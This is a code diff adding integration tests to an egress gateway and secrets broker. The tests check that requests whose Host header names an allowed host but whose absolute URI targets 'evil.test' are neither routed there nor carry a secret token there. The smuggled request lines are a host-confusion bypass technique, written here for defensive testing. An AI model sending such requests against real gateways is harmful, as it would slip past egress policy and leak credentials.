@@ -14,6 +14,11 @@ do not cover, over real sockets on this host (fast: no sandbox, no server).
 from __future__ import annotations
 
 import asyncio
+import os
+import shutil
+import socket
+import subprocess
+import time
 from collections.abc import AsyncIterator, Iterator
 from pathlib import Path
 
@@ -24,7 +29,13 @@ from lmc_runtime.egress.hooks import SessionSockets
 from lmc_runtime.egress.secret_specs import parse_secret
 from lmc_runtime.egress.secrets import SecretBroker, upstream_context
 from tests.integration.egress.echo_upstream import Upstream, echo_upstream
-from tests.integration.egress.harness import WAIT, StaticResolver, policy, session_sockets
+from tests.integration.egress.harness import (
+    WAIT,
+    StaticResolver,
+    policy,
+    serving,
+    session_sockets,
+)
 from tests.integration.egress.test_secrets_broker import (
     API_KEY,
     broker_at,
@@ -199,3 +210,112 @@ async def test_a_value_is_not_put_where_servers_reflect_it(upstream: Upstream, h
     assert API_KEY.encode() not in received
     assert API_KEY.encode() not in upstream.seen.all()
     assert token.encode() in upstream.seen.all()  # forwarded, as it was
+
+
+NGINX = """daemon off;
+master_process off;
+pid {dir}/nginx.pid;
+error_log {dir}/error.log;
+events {{ worker_connections 64; }}
+http {{
+  access_log off;
+  client_body_temp_path {dir}/body;
+  proxy_temp_path {dir}/proxy;
+  fastcgi_temp_path {dir}/fastcgi;
+  uwsgi_temp_path {dir}/uwsgi;
+  scgi_temp_path {dir}/scgi;
+  server {{ listen 127.0.0.2:{port}; server_name good.test; return 200 "good\\n"; }}
+  server {{ listen 127.0.0.2:{port}; server_name evil.test; return 200 "evil\\n"; }}
+}}
+"""
+
+
+@pytest.fixture
+def virtual_hosts(tmp_path: Path) -> Iterator[int]:
+    """nginx on 127.0.0.2 serving good.test and evil.test (one address for
+    both, as a CDN's): its port. It routes a request by its absolute URI's
+    host when it has one, whatever its Host header (RFC 9112, 3.2.2)."""
+    nginx = shutil.which("nginx") or (
+        "/usr/sbin/nginx" if os.path.exists("/usr/sbin/nginx") else None
+    )
+    if nginx is None:
+        pytest.skip("no nginx on this host")
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.2", 0))
+        port = probe.getsockname()[1]
+    conf = tmp_path / "nginx.conf"
+    conf.write_text(NGINX.format(dir=tmp_path, port=port))
+    process = subprocess.Popen(
+        [nginx, "-c", str(conf), "-p", str(tmp_path), "-e", str(tmp_path / "error.log")],
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
+    try:
+        deadline = time.monotonic() + WAIT
+        while True:  # until it listens (or has ended, or the deadline)
+            try:
+                socket.create_connection(("127.0.0.2", port), timeout=1).close()
+                break
+            except OSError:
+                if process.poll() is not None or time.monotonic() > deadline:
+                    pytest.fail(f"nginx did not start: {(tmp_path / 'error.log').read_text()}")
+                time.sleep(0.05)
+        yield port
+    finally:
+        process.terminate()
+        process.wait(WAIT)
+
+
+async def _plain(stream: Stream, request: bytes) -> bytes:
+    reader, writer = stream
+    writer.write(request)
+    try:
+        return await asyncio.wait_for(reader.read(-1), WAIT)
+    except ConnectionResetError:
+        return b""
+    finally:
+        writer.close()
+
+
+async def test_an_absolute_uri_names_no_other_host_than_the_checked_one(
+    virtual_hosts: int,
+) -> None:
+    """A plain HTTP request redirected to good.test's address, its Host good.test
+    and its target ``http://evil.test/``: the gateway checked the Host, the
+    server routes by the target. Through a CONNECT to good.test the same."""
+    fronted = b"GET http://evil.test/ HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n"
+    names = {"good.test": ["127.0.0.2"], "evil.test": ["127.0.0.2"]}
+    async with serving(policy(["good.test", "127.0.0.2/32"]), StaticResolver(names)) as session:
+        direct = await _plain(await session.redirected(("127.0.0.2", virtual_hosts)), fronted)
+        tunnel = await session.proxy()
+        tunnel[1].write(b"CONNECT good.test:%d HTTP/1.1\r\n\r\n" % virtual_hosts)
+        established = await asyncio.wait_for(tunnel[0].readuntil(b"\r\n\r\n"), WAIT)
+        tunnelled = await _plain(tunnel, fronted)
+        control = await _plain(
+            await session.redirected(("127.0.0.2", virtual_hosts)),
+            b"GET / HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n",
+        )
+    assert control.endswith(b"good\n"), control  # the gateway passes good.test's
+    assert established.startswith(b"HTTP/1.1 200"), established
+    assert not direct.endswith(b"evil\n"), direct
+    assert not tunnelled.endswith(b"evil\n"), tunnelled
+
+
+@pytest.mark.parametrize("scheme", ["http", "https", "HTTPS"])
+async def test_the_broker_forwards_no_absolute_uri(upstream: Upstream, scheme: str) -> None:
+    """The same through the secrets broker: the value would go with a request
+    that the secret's host routes to another of its names."""
+    broker = SecretBroker([parse_secret("API_KEY:api.test")], {"API_KEY": API_KEY.encode()})
+    broker.upstream = upstream_context(upstream.ca_file)
+    token = broker.open("s1", ["API_KEY"])["API_KEY"]
+    request = (
+        f"GET {scheme}://evil.test/x?y=1 HTTP/1.1\r\nHost: api.test\r\n"
+        f"Authorization: Bearer {token}\r\n\r\n"
+    ).encode()
+    async with broker_at(broker, "s1", "api.test", 443, upstream.port) as at:
+        received = await asyncio.to_thread(
+            exchange, at, [request], tls=client_context(broker), name="api.test"
+        )
+    assert echoed(received)["path"] == "/x?y=1"
+    assert b"evil.test" not in upstream.seen.all()
